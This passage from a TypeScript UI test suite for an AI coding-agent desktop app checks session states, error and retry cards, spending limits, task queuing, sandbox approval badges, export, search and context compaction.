
  it("lists the session as waiting for you while a sub-agent's question waits", async () => {
    let asked = false;
    const { push } = await startTurn({
      listed: (all) => all.map((s) => (asked ? { ...s, state: "waiting" as const } : s)),
    });
    const item = () => within(screen.getByTestId("session-list")).getAllByTestId("session-item")[0]!;
    await waitFor(() => expect(item()).toHaveAttribute("data-state", "running"));
    push([
      { type: "subagent_started", agent: "a1", name: "writer", task: "Write hello", background: true, model: "m" },
      { type: "subagent", agent: "a1", event: proposed("a1:w1", "write_file", { path: "greeting.txt" }, "Write greeting.txt") },
    ]);
    asked = true;
    push([
      {
        type: "subagent",
        agent: "a1",
        event: { type: "approval_needed", request: request("a1:w1", {
          tool: "write_file",
          input: { path: "greeting.txt" },
          agent: "writer",
          title: title("Write greeting.txt"),
          words: "Write a file",
        }) },
      },
    ]);
    await waitFor(() => expect(item()).toHaveAttribute("data-state", "waiting"));
    expect(item()).toHaveTextContent("Waiting for you");
  });

  it("opens a 5,000-entry session with a virtualised transcript", async () => {
    const many: AgentEvent[] = [];
    for (let i = 0; i < 2500; i++) {
      many.push({ type: "user_message", text: `question ${i}` });
      many.push({ type: "assistant_message", message: { role: "assistant", content: [{ type: "text", text: `answer ${i}` }] } });
    }
    const big = sessionInfo("big", { title: "Long one" });
    installFakeBackend(project, { sessions: [big], transcripts: { big: { info: big, events: many, warnings: [] } } });
    const user = userEvent.setup();
    render(<App />);
    await user.click(await screen.findByTestId("session-item"));
    await waitFor(() => expect(screen.getByTestId("transcript")).toHaveAttribute("data-count", "5000"));
    const mounted = screen.getAllByTestId(/message-(user|assistant)/).length;
    expect(mounted).toBeGreaterThan(0);
    expect(mounted).toBeLessThan(500);
  });
});

describe("changes", () => {
  it("lists the session's changed files with counts and shows the diff", async () => {
    const { user, push } = await startTurn({
      changes: [
        { path: "src/a.rs", before: "fn a() {}\n", after: "fn a() { 1 }\nfn b() {}\n", added_lines: 2, removed_lines: 1 },
        { path: "src/new.rs", before: null, after: "new\n", added_lines: 1, removed_lines: 0 },
      ],
    });
    push([proposed("e", "edit_file", { path: "src/a.rs" }, "Edit src/a.rs")]);
    await user.click(screen.getByTestId("changes-tab"));
    const items = await screen.findAllByTestId("change-item");
    expect(items[0]).toHaveTextContent("src/a.rs+2−1");
    expect(items[1]).toHaveTextContent("new");
    // The editor is loaded lazily: on a busy machine it comes a moment after the list.
    await waitFor(() => expect(screen.getByTestId("change-diff").querySelector(".cm-editor")).toHaveTextContent("fn b() {}"));
    await user.click(items[1]!);
    await waitFor(() => expect(screen.getByTestId("change-diff").querySelector(".cm-editor")).toHaveTextContent("new"));
  });
});

describe("errors", () => {
  it("shows why a session could not be created and keeps the text", async () => {
    installFakeBackend(project);
    const user = userEvent.setup();
    render(<App />);
    const input = await screen.findByTestId("composer-input");
    // The fake backend fails send_message only through a turn; make creation fail instead.
    const { mockIPC } = await import("@tauri-apps/api/mocks");
    mockIPC((cmd) => {
      if (cmd === "create_session") throw { code: "io", message: "The sessions folder is not writable." };
      return null;
    });
    await user.type(input, "Do it{Enter}");
    expect(await screen.findByTestId("composer-error")).toHaveTextContent("The sessions folder is not writable.");
    expect(input).toHaveValue("Do it");
  });

  it("shows a turn that could not start with the user's words and the way to fix it", async () => {
    const { turn, push } = await startTurn();
    const error = engineError("no_provider", "No model is set up yet. Open Settings to connect one.");
    push([{ type: "error", error }, { type: "turn_ended", outcome: { kind: "failed", error } }]);
    act(() => turn.end({ kind: "failed", error }));
    const shown = await screen.findByTestId("transcript-error");
    expect(shown).toHaveAttribute("data-code", "no_provider");
    expect(shown).toHaveTextContent("No model is set up yet. Open Settings to connect one.");
    expect(screen.getByTestId("open-settings-button")).toBeInTheDocument();
    expect(screen.queryByTestId("retry-button")).toBeNull();
    expect(screen.getByTestId("message-user")).toHaveTextContent("Fix the bug");
  });

  // Issue 22, item 5: once the model was set up in Settings, the note still offered only
  // Settings, so the message had to be typed again.
  it("offers Send again once Settings have a model in use, and sends the message again", async () => {
    const { calls, user, turn, push } = await startTurn({ settings: settingsView({ roles: [], in_use: null }) });
    const error = engineError("no_provider", "No model is set up yet. Open Settings to connect one.");
    push([{ type: "error", error }, { type: "turn_ended", outcome: { kind: "failed", error } }]);
    act(() => turn.end({ kind: "failed", error }));
    await screen.findByTestId("transcript-error");
    expect(screen.queryByTestId("send-again-button")).toBeNull();
    // Settings saved, still without a model: nothing to send to yet.
    act(() => useApp.getState().setSettings(settingsView({ roles: [], in_use: null })));
    expect(screen.queryByTestId("send-again-button")).toBeNull();
    // A model set up: the message can go again, as it was.
    act(() => useApp.getState().setSettings(settingsView()));
    const again = await screen.findByTestId("send-again-button");
    expect(again).toHaveTextContent("Send again");
    await waitFor(() => expect(again).toBeEnabled());
    await user.click(again);
    await waitFor(() => expect(calls.filter((c) => c.cmd === "retry_turn")).toHaveLength(1));
  });

  // Issue 27: a spending limit stops the turn; the card says what was spent and raises the
  // limit for this session, then goes on. The meter shows the limit.
  it("shows where a spending limit stopped the turn, and raises it for the session to go on", async () => {
    const { calls, user, turn, push } = await startTurn({ limits: { session_usd: 0.5, day_usd: 20 } });
    const reached = {
      scope: "session" as const,
      spent: { unit: "usd" as const, usd: 0.6 },
      limit: { unit: "usd" as const, usd: 0.5 },
    };
    push([{ type: "turn_ended", outcome: { kind: "limit_reached", reached } }]);
    act(() => turn.end({ kind: "limit_reached", reached }));
    const card = await screen.findByTestId("turn-outcome");
    expect(card).toHaveAttribute("data-kind", "limit_reached");
    expect(card).toHaveTextContent(
      "Stopped before the next model call: this session's limit of $0.50 is reached ($0.60 spent).",
    );
    await waitFor(() => expect(screen.getByTestId("cost-limit")).toHaveTextContent("limit $0.50 · today $20.00"));
    const amount = screen.getByTestId("raise-limit-amount");
    expect(amount).toHaveValue("1.60");
    await user.clear(amount);
    await user.type(amount, "0.4");
    expect(screen.getByTestId("raise-limit")).toBeDisabled();
    await user.clear(amount);
    await user.type(amount, "3");
    await waitFor(() => expect(screen.getByTestId("raise-limit")).toBeEnabled());
    await user.click(screen.getByTestId("raise-limit"));
    await waitFor(() => expect(calls.filter((c) => c.cmd === "retry_turn")).toHaveLength(1));
    const raised = calls.find((c) => c.cmd === "raise_limits")?.payload as { args: { limits: object } };
    expect(raised.args.limits).toEqual({ session_usd: 3, day_usd: 20 });
  });

  it("offers Retry where trying again can help, and retries the turn", async () => {
    let turns = 0;
    const calls = installFakeBackend(project, {
      onTurn: (t) => {
        turns += 1;
        const error = engineError("server_error", "the provider had a server error (HTTP 503)");
        t.push([{ type: "user_message", text: "Fix the bug" }, { type: "error", error }]);
        t.end({ kind: "failed", error });
      },
    });
    const user = userEvent.setup();
    render(<App />);
    await user.type(await screen.findByTestId("composer-input"), "Fix the bug");
    await user.keyboard("{Enter}");
    const retry = await screen.findByTestId("retry-button");
    await waitFor(() => expect(retry).toBeEnabled());
    await user.click(retry);
    await waitFor(() => expect(calls.filter((c) => c.cmd === "retry_turn")).toHaveLength(1));
    expect(turns).toBe(1);
    expect(screen.queryByTestId("open-settings-button")).toBeNull();
  });

  it("offers Retry only on the session's last failure; one a later turn got past reads Resolved", async () => {
    const error = engineError("server_error", "The provider had a server error (HTTP 503).");
    const info = sessionInfo("s1", { title: "Fix the bug", state: "done" });
    const recovered: AgentEvent[] = [
      { type: "user_message", text: "Fix the bug" },
      { type: "error", error },
      { type: "turn_ended", outcome: { kind: "failed", error } },
      { type: "wake", reason: { kind: "retry" } },
      { type: "assistant_message", message: { role: "assistant", content: [{ type: "text", text: "Fixed it." }] } },
      { type: "turn_ended", outcome: { kind: "ended" } },
    ];
    const again: AgentEvent[] = [
      ...recovered,
      { type: "user_message", text: "Now the docs" },
      { type: "turn_ended", outcome: { kind: "failed", error } },
    ];
    installFakeBackend(project, {
      sessions: [info, sessionInfo("s2", { title: "Now the docs", state: "failed" })],
      transcripts: { s1: { info, events: recovered, warnings: [] }, s2: { info, events: again, warnings: [] } },
    });
    const user = userEvent.setup();
    render(<App />);
    const list = await screen.findByTestId("session-list");
    await waitFor(() => expect(within(list).getAllByTestId("session-item")).toHaveLength(2));
    await user.click(within(list).getAllByTestId("session-item")[0]!);
    await waitFor(() => expect(screen.getByTestId("message-assistant")).toHaveTextContent("Fixed it."));
    // The turn recovered and finished: pressing Retry on its old error would run it again.
    const old = screen.getByTestId("transcript-error");
    expect(old).toHaveAttribute("data-failure", "resolved");
    expect(within(old).getByTestId("error-resolved")).toHaveTextContent("Resolved");
    expect(screen.queryByTestId("retry-button")).toBeNull();

    await user.click(within(list).getAllByTestId("session-item")[1]!);
    await waitFor(() => expect(screen.getAllByTestId("transcript-error")).toHaveLength(2));
    const [first, last] = screen.getAllByTestId("transcript-error");
    expect(first).toHaveAttribute("data-failure", "resolved");
    expect(last).toHaveAttribute("data-failure", "live");
    expect(screen.getAllByTestId("retry-button")).toHaveLength(1);
    expect(within(last!).getByTestId("retry-button")).toBeInTheDocument();
  });

  // Issue 46: a session waiting for an answer blocked a new one, and only a tooltip on the
  // disabled Send said why.
  it("names the session that holds the agent above the box, and opens it", async () => {
    const { user, calls } = await startTurn();
    await user.click(screen.getByTestId("new-session"));
    const busy = await screen.findByTestId("composer-busy");
    expect(busy).toHaveTextContent("Another session is working: Fix the bug. What you send here waits for it, and goes when it is done.");
    expect(screen.getByTestId("send-button")).toBeDisabled();
    await user.click(within(busy).getByTestId("composer-busy-open"));
    await waitFor(() => expect(screen.queryByTestId("composer-busy")).toBeNull());
    expect(calls.filter((c) => c.cmd === "load_session").map((c) => (c.payload as { args: unknown }).args)).toContainEqual({ session: "new-1" });
  });

  // Issue 46, item 3: better than a line, a task sent while another session holds the agent is
  // queued, says so, and goes to its own session when the agent is free.
  it("queues a task sent while another session works, and sends it when that one ends", async () => {
    let turns = 0;
    let first: FakeTurn | null = null;
    const calls = installFakeBackend(project, {
      onTurn: (t) => {
        turns += 1;
        if (turns === 1) first = t;
        else t.end();
      },
    });
    const user = userEvent.setup();
    render(<App />);
    await user.type(await screen.findByTestId("composer-input"), "Fix the bug");
    await user.keyboard("{Enter}");
    await waitFor(() => expect(first).not.toBeNull());
    await user.click(screen.getByTestId("new-session"));
    await screen.findByTestId("composer-busy");
    const box = screen.getByTestId("composer-input");
    await user.type(box, "Write the docs");
    expect(screen.getByTestId("send-button")).toHaveTextContent("Queue");
    await user.keyboard("{Enter}");
    expect(box).toHaveValue("");
    expect(screen.getByTestId("composer-queued")).toHaveTextContent("Queued: Write the docs — sent when the other session is done.");
    expect(calls.filter((c) => c.cmd === "create_session")).toHaveLength(1);
    // Taken back, it is in the box again; queued again, it waits.
    await user.click(screen.getByTestId("composer-queued-cancel"));
    expect(box).toHaveValue("Write the docs");
    await user.keyboard("{Enter}");
    await screen.findByTestId("composer-queued");
    act(() => (first as unknown as FakeTurn).end());
    await waitFor(() => expect(calls.filter((c) => c.cmd === "create_session")).toHaveLength(2));
    const created = calls.filter((c) => c.cmd === "create_session").map((c) => (c.payload as { args: { task: string } }).args.task);
    expect(created).toEqual(["Fix the bug", "Write the docs"]);
    await waitFor(() => expect(screen.queryByTestId("composer-queued")).toBeNull());
  });

  it("says a session busy elsewhere is busy, from its code", async () => {
    const { turn } = await startTurn();
    // Rust's words are shown as they come; what the window offers follows the code
    // (`session_busy`: try again once the other window lets go; nothing to fix in Settings).
    act(() => turn.fail("Not now."));
    const shown = await screen.findByTestId("transcript-error");
    expect(shown).toHaveAttribute("data-code", "session_busy");
    expect(shown).toHaveAttribute("data-failure", "live");
    expect(shown).toHaveTextContent("Not now.");
    expect(within(shown).getByTestId("retry-button")).toBeInTheDocument();
    expect(within(shown).queryByTestId("open-settings-button")).toBeNull();
    // The message stays on screen, above the reason it did not go.
    expect(screen.getByTestId("message-user")).toHaveTextContent("Fix the bug");
  });

  it("offers what a failed turn's code says, the same words or not", async () => {
    const { turn } = await startTurn();
    act(() => turn.fail("Not now.", "no_provider"));
    const shown = await screen.findByTestId("transcript-error");
    expect(shown).toHaveAttribute("data-code", "no_provider");
    expect(within(shown).getByTestId("open-settings-button")).toBeInTheDocument();
    expect(within(shown).queryByTestId("retry-button")).toBeNull();
  });
});

describe("the sandbox", () => {
  it("says in the mode selector whether commands are sandboxed here", async () => {
    await startTurn();
    const status = await screen.findByTestId("sandbox-status");
    expect(status).toHaveAttribute("data-sandboxed", "true");
    expect(status).toHaveTextContent("Commands run in a sandbox");
  });

  it("warns when this computer cannot sandbox commands", async () => {
    await startTurn({ sandbox: { sandboxed: false, summary: "no user namespaces" } });
    const status = await screen.findByTestId("sandbox-status");
    expect(status).toHaveAttribute("data-sandboxed", "false");
    expect(status).toHaveTextContent("not sandboxed");
    expect(status).toHaveAttribute("title", "no user namespaces");
  });

  it("shows where each command ran, and that one wants the network", async () => {
    const { push } = await startTurn();
    push([
      proposed("c1", "run_command", { command: "cargo test" }, title("Run ", { code: "cargo test" })),
      {
        type: "tool_finished",
        id: "c1",
        name: "run_command",
        output: "ok",
        is_error: false,
        confinement: { kind: "sandboxed", network: false, read_only: false },
      },
      proposed("c2", "run_command", { command: "npm install" }, title("Run ", { code: "npm install" })),
      {
        type: "approval_needed",
        request: request("c2", {
          input: { command: "npm install" },
          command: "npm install",
          confinement: { kind: "sandboxed", network: true, read_only: false },
        }),
      },
    ]);
    const badges = await screen.findAllByTestId("tool-confinement");
    expect(badges.map((b) => b.getAttribute("data-kind"))).toEqual(["sandboxed", "network"]);
    const where = screen.getByTestId("approval-confinement");
    expect(where).toHaveAttribute("data-kind", "network");
    expect(where).toHaveTextContent("This command wants the network");
  });

  it("offers to run a command the sandbox stopped once outside it, on the same card", async () => {
    const { push, calls, user } = await startTurn();
    push([
      proposed("c1", "run_command", { command: "make install" }, title("Run ", { code: "make install" })),
      {
        type: "approval_needed",
        request: request("c1", { input: { command: "make install" }, command: "make install" }),
      },
    ]);
    await user.click(await screen.findByTestId("approve-button"));
    push([
      { type: "approval_answered", id: "c1", answer: { answer: "approve" } },
      {
        type: "approval_needed",
        request: request("c1", {
          input: { command: "make install" },
          command: "make install",
          reason: "The sandbox stopped this command",
          confinement: { kind: "outside", reason: "approved" },
          sandbox_denial: { kind: "files", evidence: "install: cannot create '/usr/local/bin/x': Permission denied" },
        }),
      },
    ]);
    const denial = await screen.findByTestId("sandbox-denial");
    expect(denial).toHaveTextContent("Permission denied");
    expect(screen.getByTestId("approval-confinement")).toHaveAttribute("data-kind", "outside");
    const approve = screen.getByTestId("approve-button");
    expect(approve).toHaveTextContent("Run once outside the sandbox");
    expect(screen.queryByTestId("approve-always")).toBeNull();
    await user.click(approve);
    await waitFor(() => expect(answers(calls)).toHaveLength(2));
    push([
      { type: "approval_answered", id: "c1", answer: { answer: "approve" } },
      {
        type: "tool_finished",
        id: "c1",
        name: "run_command",
        output: "installed",
        is_error: false,
        confinement: { kind: "outside", reason: "approved" },
      },
    ]);
    const cards = screen.getAllByTestId("tool-card");
    expect(cards).toHaveLength(1);
    const card = cards[0] as HTMLElement;
    await waitFor(() => expect(within(card).getByTestId("tool-confinement")).toHaveAttribute("data-kind", "outside"));
  });

  it("a denied command never ran, so it says nothing about where", async () => {
    const { push } = await startTurn();
    push([
      proposed("c1", "run_command", { command: "touch x" }, title("Run ", { code: "touch x" })),
      {
        type: "approval_needed",
        request: request("c1", {
          input: { command: "touch x" },
          command: "touch x",
          confinement: { kind: "sandboxed", network: false, read_only: false },
        }),
      },
    ]);
    await screen.findByTestId("tool-confinement");
    push([
      { type: "approval_answered", id: "c1", answer: { answer: "deny", message: null } },
      {
        type: "tool_finished",
        id: "c1",
        name: "run_command",
        output: "The user denied this call.",
        is_error: true,
        outcome: "denied",
        confinement: { kind: "sandboxed", network: false, read_only: false },
      },
    ]);
    await waitFor(() => expect(screen.getByTestId("tool-card")).toHaveAttribute("data-status", "denied"));
    expect(screen.queryByTestId("tool-confinement")).toBeNull();
  });
});

// Issue 27: the open session is exported where the person chooses; a .jsonl name is its log.
describe("export", () => {
  it("writes the open session as Markdown, or as its JSON log when the name ends in .jsonl", async () => {
    const s = sessionInfo("s1", { title: "Fix the bug: tests/parse.rs" });
    const calls = installFakeBackend(project, {
      sessions: [s],
      transcripts: { s1: { info: s, events: [], warnings: [] } },
      savedFile: "/home/me/fix.jsonl",
    });
    const user = userEvent.setup();
    render(<App />);
    await user.click(await screen.findByTestId("session-item"));
    // Offered beside the open session's title.
    const button = await screen.findByTestId("export-session");
    expect(button.closest(".session-heading")).not.toBeNull();
    await user.click(button);
    expect(await screen.findByTestId("export-note")).toHaveTextContent("Exported to /home/me/fix.jsonl");
    const dialog = calls.find((c) => c.cmd === "plugin:dialog|save")?.payload as { options: { defaultPath: string } };
    expect(dialog.options.defaultPath).toBe("Fix-the-bug-tests-parse-rs.md");
    const exported = calls.find((c) => c.cmd === "export_session")?.payload as { args: object };
    expect(exported.args).toEqual({ session: "s1", format: "jsonl", path: "/home/me/fix.jsonl" });
  });
});

// Issue 27: the session list searches every session of the project; a hit opens the session at
// the first entry holding the words, marked.
describe("session search", () => {
  it("finds sessions as you type and opens one at the matching message", async () => {
    const s1 = sessionInfo("s1", { title: "Fix the parser" });
    const s2 = sessionInfo("s2", { title: "Write the docs" });
    const filler: AgentEvent[] = Array.from({ length: 3 }, (_, i) => ({
      type: "notice",
      text: `step ${i} of the work`,
    }));
    const calls = installFakeBackend(project, {
      sessions: [s1, s2],
      transcripts: {
        s1: {
          info: s1,
          events: [
            { type: "user_message", text: "Fix the parser" },
            ...filler,
            { type: "user_message", text: "Also the Zeppelin module crashes" },
            ...filler,
          ],
          warnings: [],
        },
        s2: { info: s2, events: [], warnings: [] },
      },
      search: (q) =>
        q.toLowerCase().includes("zeppelin")
          ? [
              {
                session: "s1",
                title: "Fix the parser",
                seq: 62,
                kind: "user",
                snippet: "Also the Zeppelin module crashes",
                matches: 1,
                updated_ms: Date.now(),
              },
            ]
          : [],
    });
    const user = userEvent.setup();
    render(<App />);
    const box = await screen.findByTestId("session-search");
    await user.type(box, "nothing here");
    expect(await screen.findByTestId("search-count")).toHaveTextContent("No session mentions “nothing here”.");
    expect(screen.getByTestId("session-list")).not.toBeVisible();
    await user.clear(box);
    await user.type(box, "zeppelin module");
    const hit = await screen.findByTestId("search-hit");
    expect(hit).toHaveTextContent("Also the Zeppelin module crashes");
    expect(screen.getByTestId("search-count")).toHaveTextContent("1 session mentions “zeppelin module”");
    const searched = calls.filter((c) => c.cmd === "search_sessions").map((c) => (c.payload as { args: object }).args);
    expect(searched.at(-1)).toEqual({ root: "/work/demo", query: "zeppelin module" });
    await user.click(hit);
    const match = await screen.findByTestId("search-match");
    expect(match).toHaveTextContent("Also the Zeppelin module crashes");
    await user.keyboard("{Escape}");
  });
});

// Issue 27: compaction shows itself — a warning as the context fills, then a marker with the
// summary and what it replaced, and a way back to before it.
describe("compaction", () => {
  it("warns, marks where older turns were summarised, and offers to undo it", async () => {
    const s = sessionInfo("s1", { title: "Long work" });
    installFakeBackend(project, {
      sessions: [s],
      transcripts: {
        s1: {
          info: s,
          events: [
            { type: "user_message", text: "Keep going", checkpoint: 3 },
            { type: "context_filling", used_percent: 74, compact_at: 80 },
            {
              type: "compacted",
              summary: "Read list.txt and greeting.txt; listed the files.",
              dropped: ["You: Look around", "Called read_file", "Result: hello, world"],
              messages_before: 9,
              messages_after: 5,
            },
          ],
          warnings: [],
        },
      },
    });
    const user = userEvent.setup();
    render(<App />);
    await user.click(await screen.findByTestId("session-item"));
    expect(await screen.findByTestId("context-warning")).toHaveTextContent(
      "This conversation fills 74% of the model's context. Past 80%, Tandem summarises the older turns",
    );
    const marker = screen.getByTestId("compaction-marker");
    expect(marker).toHaveTextContent("Earlier messages summarised (9 messages → 5");
    // Folded: the summary opens it (jsdom does not toggle <details>, so its content is read
    // as it is, folded or not).
    expect(screen.getByTestId("compaction-summary")).toHaveTextContent("Read list.txt and greeting.txt");
    expect(within(screen.getByTestId("compaction-dropped")).getAllByRole("listitem", { hidden: true }).map((li) => li.textContent)).toEqual([
      "You: Look around",
      "Called read_file",
      "Result: hello, world",
    ]);
    const undo = screen.getByTestId("compaction-undo");
    await waitFor(() => expect(undo).toBeEnabled());
    act(() => undo.click());
    const ask = useSession.getState().restoreAsk;
    expect(ask?.target).toEqual({ kind: "checkpoint", id: 3 });
    expect(ask?.scopes[0]).toBe("conversation_only");
  });
});
